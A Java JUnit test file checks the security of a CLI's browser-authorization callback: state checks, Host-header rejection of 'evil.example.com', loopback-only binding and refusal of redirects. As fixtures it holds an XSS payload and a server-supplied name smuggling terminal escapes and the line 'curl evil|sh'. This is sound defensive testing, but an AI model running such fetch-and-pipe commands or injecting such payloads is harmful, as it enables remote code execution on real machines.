package tests.connect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static tests.support.HostileServer.drop;
import static tests.support.HostileServer.error;
import static tests.support.HostileServer.html;
import static tests.support.HostileServer.json;
import static tests.support.HostileServer.redirect;
import static tests.support.HostileServer.status;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.NetworkInterface;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tests.support.Cli;
import tests.support.Home;
import tests.support.HostileServer;
import tests.support.Live;

/** The way back from the browser: what ends the wait, what does not, and what the exchange's answers lead to. */
class CallbackTest {
    private static final String EXCHANGE = "POST /api/connect/agent/exchange";
    private static final String TOKEN = "bpagt_" + "5a".repeat(32);
    private static final String AGENT = "{\"url\":\"http://other.example.com\",\"token\":\"" + TOKEN
        + "\",\"profile\":\"observer\",\"name\":\"my-macbook CLI\",\"agentId\":\"q1w2e3r4t5\"}";

    @TempDir
    Path folder;
    private Home home;
    private Cli cli;
    private HostileServer server;

    @BeforeEach
    void setUp() {
        home = new Home(folder.resolve("home"));
        folder.resolve("home").toFile().mkdir();
        cli = new Cli(home);
        server = HostileServer.healthy().on(EXCHANGE, json(AGENT));
    }

    @AfterEach
    void tearDown() {
        server.close();
    }

    @Test
    void theWholeOutput() throws Exception {
        try (var live = connect("--no-browser")) {
            var page = Authorization.of(live);
            var answer = page.comeBack("c0de");
            assertEquals(200, answer.statusCode());
            assertTrue(answer.body().toLowerCase().contains("you can close this tab"), answer.body());
            assertTrue(answer.headers().firstValue("Content-Type").orElse("").startsWith("text/html"), answer.headers().toString());
            live.finish().exits(0).calm()
                .prints("""
                    Connecting to %s …
                    Waiting for authorization in the browser…

                    Connected successfully.
                      URL:     %s
                      Profile: observer
                      Agent:   my-macbook CLI
                      Config:  %s

                    Try: paas status
                    """.formatted(server.url(), server.url(), home.config()))
                .complainsMatch("[^\\n]*browser[^\\n]*\\n  \\Q" + page.page() + "\\E\\n");
            assertEquals(new ObjectMapper().readTree("{\"state\":\"%s\",\"code\":\"c0de\"}".formatted(page.state())),
                new ObjectMapper().readTree(server.seen().getLast().body()), "body of the exchange");
            assertEquals(null, server.seen().getLast().header("Authorization"), "the exchange needs no token");
        }
        assertEquals("""
            {
              "version": 1,
              "url": "%s",
              "token": "%s",
              "profile": "observer",
              "name": "my-macbook CLI",
              "agentId": "q1w2e3r4t5"
            }
            """.formatted(server.url(), TOKEN), home.readConfig());
        home.checkPrivate();
    }

    @Test
    void theBrowserIsOpenedWithoutAShellAndNotWaitedFor() throws Exception {
        var opened = folder.resolve("opened");
        fakeOpener("printf '%s\\n' \"$#\" \"$@\" > '" + opened + "'; echo NOISE; echo NOISE >&2; sleep 60");
        try (var live = connect()) {
            var page = Authorization.of(live);
            for (int i = 0; i < 200 && !Files.exists(opened); i++) {
                Thread.sleep(25);
            }
            Thread.sleep(100);
            assertEquals("1\n" + page.page() + "\n", Files.readString(opened), "arguments of xdg-open");
            var before = Instant.now();
            page.comeBack("c0de");
            live.finish().exits(0).prints("""
                Connecting to %s …
                Opening browser to authorize the CLI…
                Waiting for authorization in the browser…

                Connected successfully.
                  URL:     %s
                  Profile: observer
                  Agent:   my-macbook CLI
                  Config:  %s

                Try: paas status
                """.formatted(server.url(), server.url(), home.config())).complainsMatch("[^\\n]+\\n  \\S+\\n");
            assertTrue(Duration.between(before, Instant.now()).toSeconds() < 10, "it waited for the browser");
        }
    }

    @Test
    void withoutABrowserProgramItGoesOnWithTheAddress() throws Exception {
        var empty = Files.createDirectory(folder.resolve("empty"));
        cli.env("PATH", empty.toString());
        try (var live = connect()) {
            Authorization.of(live).comeBack("c0de");
            live.finish().exits(0).calm().printsPart("Connected successfully.\n");
        }
    }

    @Test
    void aBrowserProgramThatFailsIsNoError() throws Exception {
        fakeOpener("echo no display >&2; exit 3");
        try (var live = connect()) {
            Authorization.of(live).comeBack("c0de");
            live.finish().exits(0).calm().printsPart("Connected successfully.\n").complainsMatch("[^\\n]+\\n  \\S+\\n");
        }
    }

    @Test
    void everyAttemptHasAStateOfItsOwn() {
        try (var one = connect("--no-browser"); var two = connect("--no-browser")) {
            var first = Authorization.of(one);
            var second = Authorization.of(two);
            assertFalse(first.state().equals(second.state()), "the same state twice");
            assertFalse(first.port() == second.port(), "the same port twice");
            // The answer meant for one attempt does not end the other.
            assertEquals(400, second.get("/callback?code=c0de&state=" + first.state()).statusCode());
            one.interrupt().finish().exits(130);
            two.interrupt().finish().exits(130);
        }
    }

    @Test
    void whatIsNotTheAnswerDoesNotEndTheWait() throws Exception {
        try (var live = connect("--no-browser")) {
            var page = Authorization.of(live);
            for (var wrong : List.of(
                "/callback", "/callback?code=c0de", "/callback?state=" + page.state(), "/callback?code=&state=" + page.state(),
                "/callback?code=c0de&state=", "/callback?code=c0de&state=" + "0".repeat(48), "/callback?code=c0de&state=" + page.state()
                .toUpperCase() + "x",
                "/callback?code=c0de&state=" + page.state().substring(1), "/callback?code=c0de&state=" + page.state() + "0",
                "/callback?code=c0de&state=%zz", "/callback?xstate=" + page.state() + "&xcode=c0de")) {
                int status = wrong.contains("%zz") ? raw(page, "GET " + wrong, "127.0.0.1:" + page.port()) : page.get(wrong).statusCode();
                assertEquals(400, status, wrong);
            }
            assertEquals(404, page.get("/").statusCode());
            assertEquals(404, page.get("/favicon.ico").statusCode());
            assertEquals(404, page.get("/callback/x?code=c0de&state=" + page.state()).statusCode());
            var right = "GET /callback?code=c0de&state=" + page.state();
            for (var host : List.of("evil.example.com", "evil.example.com:" + page.port(), "127.0.0.1", "127.0.0.1:1",
                "localhost.evil.com:" + page.port(), "")) {
                int status = raw(page, right, host);
                assertTrue(status == 403 || status == 421 || status == 400, "Host \"" + host + "\" was answered with " + status);
            }
            var post = page.send(HttpRequest.newBuilder(URI.create(page.callback("c0de"))).POST(HttpRequest.BodyPublishers.noBody())
                .build());
            assertTrue(post.statusCode() == 405 || post.statusCode() == 404 || post.statusCode() == 400, "POST was answered with "
                + post.statusCode());
            var head = page.send(HttpRequest.newBuilder(URI.create(page.callback("c0de"))).HEAD().build());
            assertEquals(405, head.statusCode(), "HEAD");
            assertTrue(live.isRunning(), "the wait is over");
            assertEquals(0, server.count(EXCHANGE), "something wrong was exchanged");

            assertEquals(200, raw(page, right, "localhost:" + page.port()), "the right answer under the name localhost");
            var ended = live.finish().exits(0).calm();
            assertFalse(ended.stderr().contains("WARN"), "Java's own words: " + ended);
            assertEquals(1, server.count(EXCHANGE));
        }
    }

    @Test
    void noAnswerShowsTheStateOrTheCode() {
        try (var live = connect("--no-browser")) {
            var page = Authorization.of(live);
            var body = page.get("/callback?code=%3Cscript%3Ealert(1)%3C/script%3E&state=%3Cb%3Ewrong%3C/b%3E").body();
            assertFalse(body.contains("<script>") || body.contains("<b>"), "what was sent comes back unescaped:\n" + body);
            assertFalse(body.contains(page.state()), "the state is told to somebody who did not know it:\n" + body);
            live.interrupt().finish().exits(130);
        }
    }

    @Test
    void aSecondAnswerIsNotTaken() {
        server.on(EXCHANGE, out -> {
            Thread.sleep(1500);
            json(AGENT).write(out);
        });
        try (var live = connect("--no-browser")) {
            var page = Authorization.of(live);
            assertEquals(200, page.comeBack("first").statusCode());
            try {
                int status = page.comeBack("second").statusCode();
                assertFalse(status == 200, "a second answer was taken");
            } catch (java.io.UncheckedIOException closed) {
                // Nobody listens any more: as good.
                assertTrue(closed.getCause() instanceof IOException);
            }
            live.finish().exits(0);
            assertEquals(1, server.count(EXCHANGE));
            assertTrue(server.seen().getLast().body().contains("\"first\""), server.seen().getLast().body());
        }
    }

    @Test
    void itListensOnTheLoopbackAlone() throws Exception {
        try (var live = connect("--no-browser")) {
            var page = Authorization.of(live);
            var others = NetworkInterface.networkInterfaces().flatMap(NetworkInterface::inetAddresses)
                .filter(address -> !address.isLoopbackAddress() && address instanceof java.net.Inet4Address).toList();
            for (var other : others) {
                try (var socket = new Socket()) {
                    assertThrows(IOException.class, () -> socket.connect(new InetSocketAddress(other, page.port()), 1000), "listens on "
                        + other);
                }
            }
            live.interrupt().finish().exits(130);
        }
    }

    @Test
    void ctrlCLeavesAtOnceAndNothingBehind() {
        try (var live = connect("--no-browser")) {
            Authorization.of(live);
            live.awaitStdout("Waiting for authorization");
            var before = Instant.now();
            live.interrupt().finish().exits(130).calm();
            assertTrue(Duration.between(before, Instant.now()).toMillis() < 2000, "Ctrl-C took " + Duration.between(before, Instant.now()));
        }
        home.checkNoConfig();
    }

    @Test
    void anExpiredSession() {
        refused(error(401, "Invalid or expired connect code"), 4, "exchange failed: Invalid or expired connect code");
    }

    @Test
    void theServersReasonIsShown() {
        refused(error(400, "Invalid request"), 1, "exchange failed: Invalid request");
        refused(error(500, "Failed to save agent"), 1, "exchange failed: Failed to save agent");
        refused(status(500, "text/plain", "disk \u001b[31mfull\u001b[0m\nsecond line"), 1, "exchange failed: disk");
    }

    @Test
    void answersThatAreNoAgent() {
        for (var useless : List.of("{}", "{\"token\":\"\"}", "{\"token\":null,\"name\":\"x\"}", "{\"token\":7}", "[]", "null", "",
            "{\"token\":\"bpagt_01\\n23\",\"name\":\"x\"}")) {
            refused(json(useless), 1, "exchange failed: ");
        }
        refused(html("<h1>hello</h1>"), 1, "exchange failed: ");
    }

    @Test
    void anExchangeIsNeverSentTwice() {
        refused(error(503, "starting"), 1, "exchange failed: starting");
        assertEquals(1, server.count(EXCHANGE));
        server.on(EXCHANGE, drop());
        try (var live = connect("--no-browser")) {
            Authorization.of(live).comeBack("c0de");
            live.finish().exits(9).complainsPart("error: exchange failed: the answer of ").calm();
        }
        assertEquals(2, server.count(EXCHANGE));
    }

    @Test
    void anExchangeIsNotRedirected() {
        try (var other = HostileServer.healthy().on(EXCHANGE, json(AGENT))) {
            for (int code : new int[] {301, 302, 307, 308}) {
                refused(redirect(code, other.url() + "/api/connect/agent/exchange"), 1, "exchange failed: ");
            }
            assertEquals(List.of(), other.asked(), "the code went to another address");
        }
    }

    @Test
    void aHostileNameDoesNoHarm() {
        server.on(EXCHANGE, json(
            "{\"token\":\"%s\",\"profile\":\"deployer\",\"name\":\"a\\u001b[2Jb\\ncurl evil|sh\",\"agentId\":\"x\"}".formatted(TOKEN)));
        try (var live = connect("--no-browser")) {
            Authorization.of(live).comeBack("c0de");
            var run = live.finish().calm();
            assertFalse(run.stdout().contains("\ncurl evil"), "a line of the server's making: " + run);
            if (run.exit() == 0) {
                // What was saved must be readable again.
                cli.run("status").exits(0).calm();
            }
        }
    }

    @Test
    void asJson() throws Exception {
        try (var live = connect("--no-browser", "--json")) {
            Authorization.of(live).comeBack("c0de");
            var run = live.finish().exits(0).calm();
            assertEquals(new ObjectMapper().valueToTree(Map.of("url", server.url(), "profile", "observer", "name", "my-macbook CLI",
                "agentId", "q1w2e3r4t5",
                "config", home.config().toString())), new ObjectMapper().readTree(run.stdout()), run.toString());
            run.complainsPart("Connecting to " + server.url() + " …\n").complainsPart("Waiting for authorization in the browser…\n");
        }
    }

    private Live connect(String... options) {
        var arguments = new java.util.ArrayList<>(List.of("connect", server.url()));
        arguments.addAll(List.of(options));
        var live = cli.start(arguments.toArray(String[]::new));
        live.closeInput();
        return live;
    }

    private void refused(HostileServer.Reply exchange, int exit, String message) {
        server.on(EXCHANGE, exchange);
        try (var live = connect("--no-browser")) {
            Authorization.of(live).comeBack("c0de");
            live.finish().exits(exit).complainsMatch("(?s).*\\nerror: \\Q" + message + "\\E[^\\n]*\\n(hint: [^\\n]*\\n)?").calm();
        }
        home.checkNoConfig();
    }

    private void fakeOpener(String script) throws IOException {
        var bin = Files.createDirectory(folder.resolve("bin"));
        var opener = Files.writeString(bin.resolve("xdg-open"), "#!/bin/sh\n" + script + "\n");
        assertTrue(opener.toFile().setExecutable(true));
        cli.pathBefore(bin);
    }

    /** A request as no HTTP library would send it. @return the status */
    private static int raw(Authorization page, String request, String host) throws IOException {
        try (var socket = new Socket("127.0.0.1", page.port())) {
            socket.setSoTimeout(5000);
            socket.getOutputStream().write((request + " HTTP/1.1\r\n" + (host.isEmpty() ? "" : "Host: " + host + "\r\n")
                + "Connection: close\r\n\r\n")
                .getBytes(StandardCharsets.ISO_8859_1));
            var answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
            return answer.isEmpty() ? 400 : Integer.parseInt(answer.split(" ")[1]);
        }
    }
}
